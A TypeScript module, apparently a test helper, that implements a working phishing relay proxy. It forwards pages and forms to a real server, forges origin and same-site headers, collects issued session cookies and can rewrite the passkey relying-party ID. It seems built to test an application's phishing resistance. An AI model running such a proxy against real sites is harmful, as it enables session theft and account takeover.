// A site that lies about itself: it relays every page of a real server, and every form back to it, and notes what the
// server hands out. What a victim would see of it is the real page at another address.
import { createServer } from 'node:http'
import type { IncomingMessage, ServerResponse } from 'node:http'

/** How much the liar tampers with: nothing, or what passkeys are asked for. */
export interface Tampering {
  /** Asks for passkeys of the liar's own name. */
  rpId?: string
}

/** The lying site. */
export interface PhishingProxy extends AsyncDisposable {
  url: string
  tampering: Tampering
  /** Cookies that the real server handed out to the liar: each one would be a session. */
  stolen: string[]
  /** Forms that the victim sent through it. */
  relayed: number
}

/** Starts it between browsers and a server. `host`: the name under which browsers know it. */
export async function openPhishingProxy(real: string, host: string): Promise<PhishingProxy> {
  const realOrigin = new URL(real).origin
  const state = { url: '', tampering: {}, stolen: new Array<string>(), relayed: 0 }
  const server = createServer((incoming, outgoing) => {
    relay(state, realOrigin, incoming, outgoing).catch(() => outgoing.destroy())
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  state.url = `http://${host}:${typeof address === 'object' && address !== null ? address.port : 0}`
  return Object.assign(state, {
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  })
}

async function relay(
  state: Omit<PhishingProxy, typeof Symbol.asyncDispose>,
  realOrigin: string,
  incoming: IncomingMessage,
  outgoing: ServerResponse,
): Promise<void> {
  const parts: Buffer[] = []
  for await (const part of incoming) if (Buffer.isBuffer(part)) parts.push(part)
  const headers: Record<string, string> = { 'accept-language': 'en' }
  for (const name of ['content-type', 'cookie', 'user-agent'] as const) {
    const value = incoming.headers[name]
    if (value !== undefined) headers[name] = value
  }
  if (incoming.method === 'POST') {
    state.relayed += 1
    // It says what the real page's browser would say.
    Object.assign(headers, { origin: realOrigin, 'sec-fetch-site': 'same-origin' })
  }
  const body = incoming.method === 'POST' ? { body: Buffer.concat(parts) } : {}
  const answer = await fetch(new URL(incoming.url ?? '/', realOrigin), { method: incoming.method ?? 'GET', headers, redirect: 'manual', ...body })
  const cookies = answer.headers.getSetCookie()
  state.stolen.push(...cookies.filter((cookie) => /^(?:__Host-)?chappe=[^;]/.test(cookie)))
  const type = answer.headers.get('content-type') ?? 'text/plain'
  let bytes = Buffer.from(await answer.arrayBuffer())
  const { rpId } = state.tampering
  if (type.startsWith('text/html') && rpId !== undefined) {
    const host = new URL(realOrigin).hostname
    bytes = Buffer.from(bytes.toString('utf8').replaceAll(`&#34;${host}&#34;`, `&#34;${rpId}&#34;`))
  }
  const location = answer.headers.get('location')
  outgoing.writeHead(answer.status, {
    'content-type': type,
    ...(cookies.length === 0 ? {} : { 'set-cookie': cookies }),
    ...(location === null ? {} : { location: location.replace(realOrigin, state.url) }),
  })
  outgoing.end(bytes)
}
